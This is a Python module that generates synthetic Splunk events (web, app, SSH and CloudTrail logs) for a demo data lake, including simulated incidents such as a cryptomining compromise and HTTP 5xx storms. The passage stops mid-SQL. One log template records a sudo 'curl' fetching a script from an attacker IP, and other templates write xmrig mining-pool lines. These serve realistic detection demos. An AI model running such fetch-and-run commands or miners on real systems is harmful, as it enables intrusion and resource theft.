"""The Splunk lakehouse: web, application and security events, one day at a time.

numpy draws every event's numbers (time, host, codes); DuckDB turns them into
fields and a raw `message` consistent with them (an nginx combined log line for
`web`, JSON for `app` and CloudTrail, a syslog line for `linux_secure`).

Hosts are inventory instances running that whole day (`host` = the instance's
`resource_name`, `account_id` = its account); CloudTrail events are collected
by the Splunk heavy forwarders of the logging account. Traffic is diurnal (peak
around 16:00 UTC) and lower at weekends. Incidents add their own events.
"""

from __future__ import annotations

import datetime as dt

import numpy as np
import pandas as pd
import pyarrow as pa

from daivi_data.demo.ahead import Ahead
from daivi_data.demo.fleet import Fleet, day_date
from daivi_data.demo.org import ACCOUNTS
from daivi_data.demo.pricing import REGIONS

CAT_WEB, CAT_APP, CAT_SECURE, CAT_TRAIL, CAT_SYSLOG = range(5)
SEVERITIES = ("DEBUG", "INFO", "WARN", "ERROR", "CRITICAL")
METHODS = ("GET", "POST", "PUT", "DELETE", "HEAD")
METHOD_P = (0.78, 0.15, 0.04, 0.02, 0.01)
STATUSES = (200, 201, 204, 301, 304, 400, 401, 403, 404, 429, 500, 502, 503, 504)
STATUS_P = (0.857, 0.02, 0.01, 0.01, 0.04, 0.01, 0.01, 0.005, 0.025, 0.003, 0.003, 0.002, 0.0015, 0.0005)
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile Safari/537.36",
    "okhttp/4.12.0", "python-requests/2.32.3", "Go-http-client/2.0", "ELB-HealthChecker/2.0",
)
WORDS = ("shoes", "jacket", "laptop", "coffee", "headphones", "garden", "kids", "sale", "gift", "lamp", "books",
         "camera", "tent", "watch", "sofa", "phone", "bike", "yoga", "paint", "toys")
PATHS: dict[str, tuple[str, ...]] = {
    "storefront": ("/", "/products/{n}", "/category/{w}", "/cart", "/static/js/app.{h}.js", "/static/css/main.{h}.css",
                   "/images/p/{n}.jpg", "/search?q={w}", "/health"),
    "cart": ("/api/v1/cart", "/api/v1/cart/items/{n}", "/api/v1/cart/summary", "/health"),
    "accounts": ("/login", "/api/v1/accounts/me", "/api/v1/accounts/{n}/addresses", "/logout", "/health"),
    "payments-api": ("/api/v1/payments", "/api/v1/payments/{n}", "/api/v1/payments/{n}/capture", "/api/v1/refunds",
                     "/health"),
    "ledger": ("/api/v1/ledger/entries?page={k}", "/api/v1/ledger/accounts/{n}", "/health"),
    "fraud-scoring": ("/api/v1/fraud/score", "/api/v1/fraud/rules", "/health"),
    "catalog": ("/api/v1/products/{n}", "/api/v1/products?category={w}&page={k}", "/health"),
    "pricing": ("/api/v1/prices?sku={n}", "/api/v1/promotions", "/health"),
    "inventory-sync": ("/api/v1/stock/{n}", "/api/v1/stock/bulk", "/health"),
    "checkout": ("/api/v1/checkout", "/api/v1/checkout/{n}/confirm", "/health"),
    "orders": ("/api/v1/orders/{n}", "/api/v1/orders?page={k}", "/health"),
    "search": ("/api/v1/search?q={w}", "/api/v1/search/suggest?q={w}", "/health"),
    "recommendations": ("/api/v1/recommendations/{n}", "/api/v1/recommendations/home", "/health"),
    "": ("/", "/health", "/api/v1/status"),
}
# (severity, template) for application logs. Placeholders: {n} {k} {ms} {w} {svc} {app}
APP_MESSAGES = (
    ("INFO", "Processed order {n} in {ms} ms"), ("INFO", "Request completed status=200 duration={ms}ms"),
    ("INFO", "Cache refresh finished: {k} keys"), ("INFO", "Consumed {k} messages from queue {app}-events"),
    ("INFO", "Job {app}-sync-{n} completed: {k} records"), ("INFO", "Health check ok"),
    ("DEBUG", "Opening DB connection pool size={k}"), ("DEBUG", "Feature flag {w} evaluated to true for tenant {n}"),
    ("WARN", "Slow query on table {w}: {ms} ms"), ("WARN", "Retrying request to {svc} (attempt {k}/3)"),
    ("WARN", "Queue depth high: {k}000 messages"),
    ("ERROR", "Timeout calling {svc} after 30000 ms"),
    ("ERROR", "Failed to process message {n}: ValidationError: missing field 'amount'"),
    ("ERROR", "Database connection refused: {w}-db:5432"),
    ("CRITICAL", "Connection pool exhausted (max={k}); rejecting requests"),
    # Incident messages (not drawn at random).
    ("ERROR", "upstream timed out (110: Connection timed out) while reading response header from {svc}"),
    ("ERROR", "S3 replication backlog growing: {n} objects pending on {w}"),
    ("WARN", "ReplicationStatus=FAILED for {n} objects on {w}, retrying"),
)
APP_WEIGHTS = np.array([20, 25, 6, 10, 5, 8, 6, 4, 5, 4, 2, 1.2, 1.0, 0.4, 0.05, 0, 0, 0], float)
APP_TIMEOUT, APP_REPL_BACKLOG, APP_REPL_FAILED = 15, 16, 17
SERVICES = ("payments-service", "ledger-service", "checkout-service", "catalog-service", "redis", "postgres",
            "auth-service", "search-service")
SECURE_MESSAGES = (
    ("INFO", "sshd[{pid}]: Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{h}"),
    ("WARN", "sshd[{pid}]: Failed password for invalid user {user} from {ip} port {port} ssh2"),
    ("INFO", "sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart {svc}"),
    ("INFO", "sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}"),
    ("WARN", "sshd[{pid}]: Connection closed by authenticating user root {ip} port {port} [preauth]"),
    ("WARN", "sudo: {user} : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -s http://{ip}/x.sh"),
)
SECURE_WEIGHTS = np.array([30, 25, 15, 20, 10, 0], float)
INTERNAL_USERS = ("ec2-user", "ssm-user", "deploy", "jenkins", "m.chen", "a.patel", "j.smith", "r.garcia",
                  "k.nguyen", "svc-backup")
INVALID_USERS = ("admin", "test", "oracle", "ubuntu", "postgres", "git", "user1", "support")
# (eventSource, eventName, severity, errorCode)
TRAIL_EVENTS = (
    ("ec2.amazonaws.com", "DescribeInstances", "INFO", ""), ("sts.amazonaws.com", "AssumeRole", "INFO", ""),
    ("s3.amazonaws.com", "ListBuckets", "INFO", ""), ("signin.amazonaws.com", "ConsoleLogin", "INFO", ""),
    ("kms.amazonaws.com", "Decrypt", "INFO", ""), ("lambda.amazonaws.com", "UpdateFunctionCode20150331v2", "INFO", ""),
    ("ec2.amazonaws.com", "RunInstances", "INFO", ""), ("ec2.amazonaws.com", "TerminateInstances", "INFO", ""),
    ("iam.amazonaws.com", "CreateAccessKey", "WARN", ""), ("iam.amazonaws.com", "AttachRolePolicy", "WARN", ""),
    ("ec2.amazonaws.com", "AuthorizeSecurityGroupIngress", "WARN", ""),
    ("s3.amazonaws.com", "PutBucketPolicy", "WARN", ""),
    ("ec2.amazonaws.com", "DescribeInstances", "WARN", "Client.UnauthorizedOperation"),
    ("sts.amazonaws.com", "GetCallerIdentity", "INFO", ""), ("ec2.amazonaws.com", "DescribeRegions", "INFO", ""),
    ("ec2.amazonaws.com", "CreateKeyPair", "WARN", ""),
)
TRAIL_WEIGHTS = np.array([30, 25, 8, 4, 15, 3, 3, 3, 0.3, 0.5, 0.5, 0.2, 2, 0, 0, 0], float)
TRAIL_ROLES = ("AWSReservedSSO_AdministratorAccess", "AWSReservedSSO_ReadOnly", "github-actions-deploy",
               "terraform-apply", "eks-node-role", "lambda-exec")
ATTACKER_IP = (185 << 24) | (220 << 16) | (101 << 8) | 47

EVENT_SCHEMA = pa.schema([
    ("rn", pa.int64()), ("ts", pa.timestamp("us")), ("cat", pa.int8()), ("host", pa.int32()),
    ("code", pa.int16()), ("sev", pa.int8()), ("path", pa.int32()), ("method", pa.int8()), ("status", pa.int16()),
    ("bytes", pa.int64()), ("dur", pa.float64()), ("ip", pa.int64()), ("user", pa.int16()), ("n1", pa.int64()),
    ("n2", pa.int32()), ("acct", pa.int16()), ("region", pa.int8()), ("agent", pa.int8()),
])


def _diurnal(peak: float = 16.0, floor: float = 0.25) -> np.ndarray:
    h = np.arange(24)
    w = floor + (1 - floor) * (1 + np.cos(2 * np.pi * (h - peak) / 24)) / 2
    return w / w.sum()


class SplunkGenerator:
    def __init__(self, fleet: Fleet, seed: int, events_per_day: int) -> None:
        self.fleet = fleet
        self.seed = seed
        self.per_day = events_per_day
        r = fleet.resources
        inst = r[r["kind"] == "instance"]
        self.hosts = pd.DataFrame({
            "name": inst["name"].to_numpy(dtype=object), "account_id": inst["account_id"].to_numpy(dtype=object),
            "role": inst["role"].to_numpy(dtype=object), "app": inst["app"].to_numpy(dtype=object),
            "env": inst["env"].to_numpy(dtype=object), "public": inst["public"].to_numpy(bool),
            "platform": inst["platform"].to_numpy(dtype=object), "traffic": inst["traffic"].to_numpy(float),
            "created": inst["created"].to_numpy(float),
            "until": np.minimum(inst["deleted"].to_numpy(float), inst["stopped"].to_numpy(float)),
            "incident": inst["incident"].to_numpy(dtype=object), "rid": inst.index.to_numpy(),
        })
        h = self.hosts
        env_w = h["env"].map({"prod": 1.0, "staging": 0.06, "dev": 0.03, "shared": 0.3, "sandbox": 0.01}).to_numpy()
        linux = h["platform"].to_numpy() != "Windows"
        normal = h["incident"].to_numpy() == ""
        role = h["role"].to_numpy()
        self.w_web = np.where(np.isin(role, ["web", "api"]) & normal, env_w * np.where(role == "web", 1.0, 0.6), 0)
        self.w_web = self.w_web * np.clip(h["traffic"].to_numpy(), 1, None) ** 0.5
        app_roles = ["api", "worker", "etl", "node", "jenkins", "agent", "gpu", "splunk-hf", "scanner"]
        self.w_app = np.where(np.isin(role, app_roles) & normal, np.maximum(env_w, 0.1), 0.0)
        self.w_secure = np.where(linux & normal, 1.0 + 6.0 * (role == "bastion") + 2.0 * h["public"].to_numpy(), 0.0)
        self.w_trail = np.where(role == "splunk-hf", 1.0, 0.0)
        # Flattened path templates per app.
        apps = sorted(PATHS)
        self.path_templates = [t for a in apps for t in PATHS[a]]
        offsets = np.cumsum([0] + [len(PATHS[a]) for a in apps])
        where = {a: (offsets[i], len(PATHS[a])) for i, a in enumerate(apps)}
        self.path_off = np.array([where.get(a, where[""])[0] for a in h["app"]], dtype=np.int64)
        self.path_cnt = np.array([where.get(a, where[""])[1] for a in h["app"]], dtype=np.int64)
        pool = np.random.default_rng([seed, 30]).integers(1 << 24, 223 << 24, 20_000)
        self.client_pool = pool[(pool >> 24) != 10]
        self.client_p = 1.0 / np.arange(1, len(self.client_pool) + 1) ** 0.8
        self.client_p /= self.client_p.sum()
        self.incidents = {i["id"]: i for i in fleet.incidents}
        self.inc_rids = {
            i["id"]: set(r.index[r["resource_id"].isin(i.get("resource_ids", []))]) for i in fleet.incidents}
        self._ahead: Ahead[pa.Table] | None = None

    # ---------------------------------------------------------------- tables for SQL
    def lookup_tables(self) -> dict[str, pa.Table]:
        h = self.hosts
        return {
            "hosts": pa.table({"host": pa.array(np.arange(len(h)), pa.int32()), "name": list(h["name"]),
                               "account_id": list(h["account_id"]), "app": list(h["app"])}),
            "paths": pa.table({"path": pa.array(np.arange(len(self.path_templates)), pa.int32()),
                               "template": self.path_templates}),
            "appmsg": pa.table({"code": pa.array(np.arange(len(APP_MESSAGES)), pa.int16()),
                                "template": [m[1] for m in APP_MESSAGES]}),
            "securemsg": pa.table({"code": pa.array(np.arange(len(SECURE_MESSAGES)), pa.int16()),
                                   "template": [m[1] for m in SECURE_MESSAGES]}),
            "trail": pa.table({"code": pa.array(np.arange(len(TRAIL_EVENTS)), pa.int16()),
                               "source": [t[0] for t in TRAIL_EVENTS], "event": [t[1] for t in TRAIL_EVENTS],
                               "error": [t[3] for t in TRAIL_EVENTS]}),
            "sev": pa.table({"sev": pa.array(np.arange(5), pa.int8()), "severity": list(SEVERITIES)}),
            "eaccts": pa.table({"acct": pa.array(np.arange(len(ACCOUNTS)), pa.int16()),
                                "account_id": [a.account_id for a in ACCOUNTS]}),
            "regions": pa.table({"region": pa.array(np.arange(len(REGIONS)), pa.int8()), "name": list(REGIONS)}),
            "words": pa.table({"i": pa.array(np.arange(len(WORDS)), pa.int32()), "word": list(WORDS)}),
            "svcs": pa.table({"i": pa.array(np.arange(len(SERVICES)), pa.int32()), "svc": list(SERVICES)}),
            "agents": pa.table({"agent": pa.array(np.arange(len(AGENTS)), pa.int8()), "ua": list(AGENTS)}),
            "iusers": pa.table({"user": pa.array(np.arange(len(INTERNAL_USERS) + len(INVALID_USERS) + 2), pa.int16()),
                                "uname": list(INTERNAL_USERS) + list(INVALID_USERS) + ["ci-deploy", "ec2-user"]}),
            "roles": pa.table({"i": pa.array(np.arange(len(TRAIL_ROLES)), pa.int32()), "role": list(TRAIL_ROLES)}),
        }

    # ---------------------------------------------------------------- one day
    def day_events(self, day: int) -> pa.Table:
        """One day's events; the next day's are computed in the background meanwhile (a build asks day by day)."""
        if self._ahead is None:
            self._ahead = Ahead(self._day_events, lambda args: (args[0] + 1,) if args[0] < self.fleet.end else None)
        return self._ahead(day)

    def _day_events(self, day: int) -> pa.Table:
        d = day_date(day)
        rng = np.random.default_rng([self.seed, 3, d.year, d.month, d.day])
        h = self.hosts
        full_day = (h["created"].to_numpy() <= day) & (h["until"].to_numpy() >= day + 1)
        weekend = d.weekday() >= 5
        growth = 1.02 ** ((day - self.fleet.end) / 30.4375)
        total = int(self.per_day * (0.72 if weekend else 1.0) * growth)
        n_web, n_app, n_sec, n_trail = rng.multinomial(total, [0.68, 0.22, 0.06, 0.04])
        parts = [
            self._web(rng, day, n_web, self.w_web * full_day),
            self._app(rng, day, n_app, self.w_app * full_day),
            self._secure(rng, day, n_sec, self.w_secure * full_day),
            self._trail(rng, day, n_trail, self.w_trail * full_day),
        ]
        parts += self._incident_events(rng, day, parts[0])
        ev = _concat([p for p in parts if p is not None and len(p["ts"])])
        order = np.lexsort((ev["host"], ev["ts"]))
        arrays = []
        for f in EVENT_SCHEMA:
            if f.name == "rn":
                arrays.append(pa.array(np.arange(len(order), dtype=np.int64)))
            elif f.name == "ts":
                arrays.append(pa.array(ev["ts"][order], type=pa.timestamp("us")))
            else:
                arrays.append(pa.array(ev[f.name][order].astype(f.type.to_pandas_dtype())))
        return pa.Table.from_arrays(arrays, schema=EVENT_SCHEMA)

    @staticmethod
    def _times(rng, day: int, n: int, hour_p: np.ndarray) -> np.ndarray:
        hours = rng.choice(24, size=n, p=hour_p)
        ms = rng.integers(0, 3_600_000, n)
        return day * 86_400_000_000 + hours * 3_600_000_000 + ms * 1000

    @staticmethod
    def _pick(rng, weights: np.ndarray, n: int) -> np.ndarray:
        p = weights / weights.sum()
        return rng.choice(len(weights), size=n, p=p)

    def _web(self, rng, day: int, n: int, w: np.ndarray, host: np.ndarray | None = None,
             ts: np.ndarray | None = None, p5xx: float = 0.0) -> dict | None:
        if n <= 0 or (host is None and w.sum() <= 0):
            return None
        host = self._pick(rng, w, n) if host is None else host
        ts = self._times(rng, day, n, _diurnal()) if ts is None else ts
        path = self.path_off[host] + (rng.random(n) * self.path_cnt[host]).astype(np.int64)
        status_i = rng.choice(len(STATUSES), size=n, p=np.array(STATUS_P) / sum(STATUS_P))
        if p5xx:
            boom = rng.random(n) < p5xx
            status_i = np.where(boom, rng.choice([11, 12, 13], size=n, p=[0.45, 0.35, 0.2]), status_i)
        status = np.array(STATUSES)[status_i]
        templates = np.array(self.path_templates, dtype=object)[path]
        static = np.char.startswith(templates.astype(str), "/static") | np.char.startswith(
            templates.astype(str), "/images")
        health = templates == "/health"
        size = np.where(static, rng.lognormal(10.5, 0.8, n), rng.lognormal(7.5, 1.0, n))
        size = np.where(status == 304, 0, np.where(status >= 400, rng.integers(80, 600, n), size))
        size = np.where(health, 2, size)
        dur = rng.lognormal(np.log(45), 0.8, n)
        dur = np.where(status >= 500, rng.uniform(5_000, 30_000, n), np.where(health, dur / 20, dur))
        method = np.where(health, 0, rng.choice(5, size=n, p=METHOD_P))
        status = np.where(health & (status < 500), 200, status)
        sev = np.where(status >= 500, 3, np.where(status >= 400, 2, 1))
        agent = np.where(health, 7, rng.choice(7, size=n, p=[0.3, 0.15, 0.2, 0.15, 0.08, 0.07, 0.05]))
        ip = self.client_pool[rng.choice(len(self.client_pool), size=n, p=self.client_p)]
        ip = np.where(health, (10 << 24) + rng.integers(0, 1 << 16, n), ip)
        authed = (rng.random(n) < 0.22) & ~health
        return {"ts": ts, "cat": np.full(n, CAT_WEB), "host": host, "code": np.zeros(n), "sev": sev, "path": path,
                "method": method, "status": status, "bytes": np.round(size), "dur": np.round(dur, 1), "ip": ip,
                "user": np.where(authed, -2, -1), "n1": rng.integers(1000, 999_999, n),
                "n2": rng.integers(1, 20, n), "acct": np.zeros(n), "region": np.zeros(n), "agent": agent}

    def _app(self, rng, day: int, n: int, w: np.ndarray, host=None, ts=None, code=None) -> dict | None:
        if n <= 0 or (host is None and w.sum() <= 0):
            return None
        host = self._pick(rng, w, n) if host is None else host
        ts = self._times(rng, day, n, _diurnal(floor=0.5)) if ts is None else ts
        code = rng.choice(len(APP_MESSAGES), size=n, p=APP_WEIGHTS / APP_WEIGHTS.sum()) if code is None else code
        sev = np.array([SEVERITIES.index(m[0]) for m in APP_MESSAGES])[code]
        return {"ts": ts, "cat": np.full(n, CAT_APP), "host": host, "code": code, "sev": sev,
                "path": np.zeros(n), "method": np.zeros(n), "status": np.zeros(n), "bytes": np.zeros(n),
                "dur": np.round(rng.lognormal(np.log(120), 1.0, n), 1), "ip": np.zeros(n), "user": np.full(n, -1),
                "n1": rng.integers(10_000, 9_999_999, n), "n2": rng.integers(1, 50, n), "acct": np.zeros(n),
                "region": np.zeros(n), "agent": np.zeros(n)}

    def _secure(self, rng, day: int, n: int, w: np.ndarray, host=None, ts=None, code=None, ip=None) -> dict | None:
        if n <= 0 or (host is None and w.sum() <= 0):
            return None
        host = self._pick(rng, w, n) if host is None else host
        ts = self._times(rng, day, n, _diurnal(peak=15, floor=0.6)) if ts is None else ts
        code = rng.choice(len(SECURE_MESSAGES), size=n, p=SECURE_WEIGHTS / SECURE_WEIGHTS.sum()) \
            if code is None else code
        sev = np.array([SEVERITIES.index(m[0]) for m in SECURE_MESSAGES])[code]
        invalid = np.isin(code, [1])
        user = np.where(invalid, len(INTERNAL_USERS) + rng.integers(0, len(INVALID_USERS), n),
                        rng.integers(0, len(INTERNAL_USERS), n))
        external = np.isin(code, [1, 4])
        if ip is None:
            ip = np.where(external, rng.integers(1 << 24, 223 << 24, n), (10 << 24) + rng.integers(0, 1 << 20, n))
        return {"ts": ts, "cat": np.full(n, CAT_SECURE), "host": host, "code": code, "sev": sev,
                "path": np.zeros(n), "method": np.zeros(n), "status": np.zeros(n), "bytes": np.zeros(n),
                "dur": np.full(n, np.nan), "ip": ip, "user": user, "n1": rng.integers(1000, 65000, n),
                "n2": rng.integers(1024, 65535, n), "acct": np.zeros(n), "region": np.zeros(n), "agent": np.zeros(n)}

    def _trail(self, rng, day: int, n: int, w: np.ndarray, host=None, ts=None, code=None, acct=None, user=None,
               ip=None, region=None) -> dict | None:
        if n <= 0 or (host is None and w.sum() <= 0):
            return None
        host = self._pick(rng, w, n) if host is None else host
        ts = self._times(rng, day, n, _diurnal(floor=0.4)) if ts is None else ts
        code = rng.choice(len(TRAIL_EVENTS), size=n, p=TRAIL_WEIGHTS / TRAIL_WEIGHTS.sum()) if code is None else code
        sev = np.array([SEVERITIES.index(t[2]) for t in TRAIL_EVENTS])[code]
        acct = rng.integers(0, len(ACCOUNTS), n) if acct is None else acct
        user = rng.integers(2, len(INTERNAL_USERS), n) if user is None else user  # people and pipelines
        if ip is None:
            ip = np.where(rng.random(n) < 0.5, (10 << 24) + rng.integers(0, 1 << 20, n),
                          self.client_pool[rng.integers(0, 200, n)])
        region = np.where(rng.random(n) < 0.8, 0, rng.integers(0, len(REGIONS), n)) if region is None else region
        return {"ts": ts, "cat": np.full(n, CAT_TRAIL), "host": host, "code": code, "sev": sev,
                "path": np.zeros(n), "method": np.zeros(n), "status": np.zeros(n), "bytes": np.zeros(n),
                "dur": np.full(n, np.nan), "ip": ip, "user": user, "n1": rng.integers(0, 1 << 31, n),
                "n2": rng.integers(0, len(TRAIL_ROLES), n), "acct": acct, "region": region, "agent": np.zeros(n)}

    # ---------------------------------------------------------------- incidents
    def _window(self, inc: dict, day: int) -> tuple[int, int] | None:
        """The incident's time window within `day` in epoch microseconds, or None."""
        start = _us(inc["start"])
        end = _us(inc["end"])
        lo, hi = max(start, day * 86_400_000_000), min(end, (day + 1) * 86_400_000_000)
        return (lo, hi) if hi > lo else None

    def _host_index(self, name: str) -> int:
        return int(np.flatnonzero(self.hosts["name"].to_numpy() == name)[0])

    def _incident_events(self, rng, day: int, web_today: dict | None) -> list[dict | None]:
        out: list[dict | None] = []
        h = self.hosts
        hf = np.flatnonzero(h["role"].to_numpy() == "splunk-hf")
        for inc in self.fleet.incidents:
            win = self._window(inc, day)
            if win is None:
                continue
            lo, hi = win
            hours = (hi - lo) / 3_600_000_000
            if inc["kind"] == "cryptomining":
                acct = [a.account_id for a in ACCOUNTS].index(inc["account_id"])
                reg = list(REGIONS).index(inc["region"])
                miners = np.flatnonzero(h["incident"].to_numpy() == inc["id"])
                if _us(inc["start"]) >= day * 86_400_000_000:  # launch day: the CloudTrail burst
                    codes = np.r_[13, 14, 15, 10, np.full(len(miners), 6)]
                    k = len(codes)
                    t0 = _us(inc["start"]) - 600_000_000
                    out.append(self._trail(rng, day, k, None, host=np.full(k, hf[0]),
                                           ts=t0 + np.arange(k) * 7_000_000, code=codes, acct=np.full(k, acct),
                                           user=np.full(k, len(INTERNAL_USERS) + len(INVALID_USERS)),
                                           ip=np.full(k, ATTACKER_IP), region=np.full(k, reg)))
                for m in miners:
                    created = h.loc[m, "created"] * 86_400_000_000
                    until = h.loc[m, "until"] * 86_400_000_000
                    a, b = max(lo, created), min(hi, until)
                    if b <= a:
                        continue
                    ticks = np.arange(a + 60_000_000, b, 300_000_000).astype(np.int64)  # every 5 minutes
                    k = len(ticks)
                    if not k:
                        continue
                    ev = self._app(rng, day, k, None, host=np.full(k, m), ts=ticks, code=np.zeros(k, np.int64))
                    ev["cat"] = np.full(k, CAT_SYSLOG)
                    ev["sev"] = np.full(k, 2)
                    out.append(ev)
                    if created >= lo:
                        codes = np.array([0, 5])
                        out.append(self._secure(rng, day, 2, None, host=np.full(2, m),
                                                ts=np.array([created + 90_000_000, created + 150_000_000], np.int64),
                                                code=codes, ip=np.full(2, ATTACKER_IP)))
                # SSH brute force against the exposed miners all along.
                k = int(40 * hours * max(1, len(miners) // 4))
                if len(miners):
                    out.append(self._secure(rng, day, k, None, host=rng.choice(miners, k),
                                            ts=rng.integers(lo, hi, k), code=np.full(k, 1)))
            elif inc["kind"] == "http_5xx_storm":
                host = self._host_index(inc["host"])
                if web_today is not None:
                    mine = (web_today["host"] == host) & (web_today["ts"] >= lo) & (web_today["ts"] < hi)
                    boom = mine & (rng.random(len(mine)) < 0.7)
                    web_today["status"][boom] = rng.choice([502, 503, 504], size=int(boom.sum()), p=[0.45, 0.35, 0.2])
                    web_today["sev"][boom] = 3
                    web_today["dur"][boom] = np.round(rng.uniform(5_000, 30_000, int(boom.sum())), 1)
                    web_today["bytes"][boom] = rng.integers(150, 600, int(boom.sum()))
                base_rate = max(200.0, self.per_day * 0.68 * self.w_web[host] / max(self.w_web.sum(), 1e-9) / 24)
                k = int(4 * base_rate * hours)
                out.append(self._web(rng, day, k, None, host=np.full(k, host), ts=rng.integers(lo, hi, k),
                                     p5xx=0.7))
                k = int(60 * hours)
                out.append(self._app(rng, day, k, None, host=np.full(k, host), ts=rng.integers(lo, hi, k),
                                     code=np.full(k, APP_TIMEOUT)))
            elif inc["kind"] == "s3_replication_loop" and inc["host"]:
                host = self._host_index(inc["host"])
                k = int(30 * hours)
                codes = np.where(rng.random(k) < 0.6, APP_REPL_BACKLOG, APP_REPL_FAILED)
                out.append(self._app(rng, day, k, None, host=np.full(k, host), ts=rng.integers(lo, hi, k),
                                     code=codes))
        return out


def _us(iso: str) -> int:
    t = dt.datetime.fromisoformat(iso)
    return int((t - dt.datetime(1970, 1, 1)).total_seconds() * 1_000_000)


def _concat(parts: list[dict]) -> dict[str, np.ndarray]:
    return {f.name: np.concatenate([np.asarray(p[f.name]) for p in parts]) for f in EVENT_SCHEMA
            if f.name != "rn"}


EVENTS_SQL = f"""
WITH e AS (
  SELECT ev.*, h.name AS hostname, h.account_id AS host_account, h.app AS app, s.severity,
    CAST(ev.ip >> 24 AS VARCHAR) || '.' || CAST((ev.ip >> 16) & 255 AS VARCHAR) || '.' ||
      CAST((ev.ip >> 8) & 255 AS VARCHAR) || '.' || CAST(ev.ip & 255 AS VARCHAR) AS ipstr,
    w.word, sv.svc, u.uname
  FROM ev
  JOIN hosts h ON h.host = ev.host
  JOIN sev s ON s.sev = ev.sev
  JOIN words w ON w.i = CAST(ev.n1 % {len(WORDS)} AS INTEGER)
  JOIN svcs sv ON sv.i = CAST(ev.n2 % {len(SERVICES)} AS INTEGER)
  LEFT JOIN iusers u ON u.user = ev.user
), web AS (
  SELECT e.*, replace(replace(replace(replace(p.template, '{{n}}', CAST(e.n1 AS VARCHAR)), '{{k}}',
         CAST(e.n2 AS VARCHAR)), '{{w}}', e.word), '{{h}}', substr(md5(CAST(CAST(e.ts AS DATE) AS VARCHAR)), 1, 8))
         AS http_path,
    CASE WHEN e.user = -2 THEN 'cust-' || CAST(e.n1 % 90000 + 10000 AS VARCHAR) END AS customer,
    ['GET', 'POST', 'PUT', 'DELETE', 'HEAD'][e.method + 1] AS http_method, a.ua
  FROM e JOIN paths p ON p.path = e.path JOIN agents a ON a.agent = e.agent
  WHERE e.cat = {CAT_WEB}
)
SELECT rn, ts AS event_time, 'web' AS index_name, 'access_combined' AS sourcetype,
  '/var/log/nginx/access.log' AS source, hostname AS host, host_account AS account_id, severity, http_method,
  http_path, CAST(status AS INTEGER) AS http_status, bytes, dur AS duration_ms, customer AS user_name,
  ipstr AS client_ip,
  ipstr || ' - ' || coalesce(customer, '-') || ' [' || strftime(ts, '%d/%b/%Y:%H:%M:%S +0000') || '] "' ||
    http_method || ' ' || http_path || ' HTTP/1.1" ' || CAST(status AS VARCHAR) || ' ' || CAST(bytes AS VARCHAR) ||
    ' "' || CASE WHEN http_path LIKE '/api/%' OR http_path = '/health' THEN '-' ELSE 'https://www.daivi.example/' END
    || '" "' || ua ||
    '" rt=' || printf('%.3f', dur / 1000) AS message
FROM web
UNION ALL
SELECT rn, ts, CASE WHEN cat = {CAT_SYSLOG} THEN 'security' ELSE 'app' END,
  CASE WHEN cat = {CAT_SYSLOG} THEN 'syslog' ELSE 'app:json' END,
  CASE WHEN cat = {CAT_SYSLOG} THEN '/var/log/messages' ELSE '/var/log/app/' || coalesce(nullif(app, ''), 'service')
    || '.log' END,
  hostname, host_account, severity, NULL, NULL, NULL, NULL,
  CASE WHEN cat = {CAT_APP} AND m.template LIKE '%{{ms}}%' THEN dur END, NULL, NULL,
  CASE WHEN cat = {CAT_SYSLOG} THEN
    strftime(ts, '%b %d %H:%M:%S') || ' ' || hostname || ' xmrig[' || CAST(n2 * 97 AS VARCHAR) || ']: [' ||
    strftime(ts, '%Y-%m-%d %H:%M:%S') || '] accepted (' || CAST(n1 % 5000 AS VARCHAR) || '/0) diff ' ||
    CAST(n1 % 400000 + 100000 AS VARCHAR) || ' (' || CAST(n2 AS VARCHAR) || ' ms) pool: xmr.pool-' ||
    CAST(n2 % 4 AS VARCHAR) || '.example:443'
  ELSE
    '{{"ts":"' || strftime(ts, '%Y-%m-%dT%H:%M:%S.%g') || 'Z","level":"' || severity || '","logger":"' ||
    coalesce(nullif(app, ''), 'service') || '","host":"' || hostname || '","msg":"' ||
    replace(replace(replace(replace(replace(replace(m.template, '{{n}}', CAST(n1 AS VARCHAR)), '{{k}}',
      CAST(n2 AS VARCHAR)), '{{ms}}', CAST(CAST(dur AS BIGINT) AS VARCHAR)), '{{w}}',
      CASE WHEN code IN ({APP_REPL_BACKLOG}, {APP_REPL_FAILED}) THEN 'daivi-datalake-raw-prod' ELSE word END),
      '{{svc}}', svc), '{{app}}', coalesce(nullif(app, ''), 'service')) ||
    '","trace_id":"' || substr(md5(CAST(rn AS VARCHAR) || CAST(ts AS VARCHAR)), 1, 16) || '"}}'
  END
FROM e JOIN appmsg m USING (code)
WHERE cat IN ({CAT_APP}, {CAT_SYSLOG})
UNION ALL
SELECT rn, ts, 'security', 'linux_secure', '/var/log/secure', hostname, host_account, severity, NULL, NULL, NULL,
  NULL, NULL, uname, ipstr,
  strftime(ts, '%b %d %H:%M:%S') || ' ' || hostname || ' ' ||
  replace(replace(replace(replace(replace(replace(m.template, '{{pid}}', CAST(n1 AS VARCHAR)), '{{user}}', uname),
    '{{ip}}', ipstr), '{{port}}', CAST(n2 AS VARCHAR)), '{{svc}}', split_part(svc, '-', 1)),
    '{{h}}', substr(md5(uname || hostname), 1, 22))
FROM e JOIN securemsg m USING (code)
WHERE cat = {CAT_SECURE}
UNION ALL
SELECT rn, ts, 'security', 'aws:cloudtrail', 'aws_cloudtrail', hostname, host_account, severity, NULL, NULL, NULL,
  NULL, NULL, uname, ipstr,
  '{{"eventVersion":"1.09","eventTime":"' || strftime(ts, '%Y-%m-%dT%H:%M:%SZ') || '","eventSource":"' ||
  t.source || '","eventName":"' || t.event || '","awsRegion":"' || r.name || '","sourceIPAddress":"' || ipstr ||
  '","userAgent":"aws-cli/2.17.0","userIdentity":{{"type":"AssumedRole","arn":"arn:aws:sts::' || ea.account_id ||
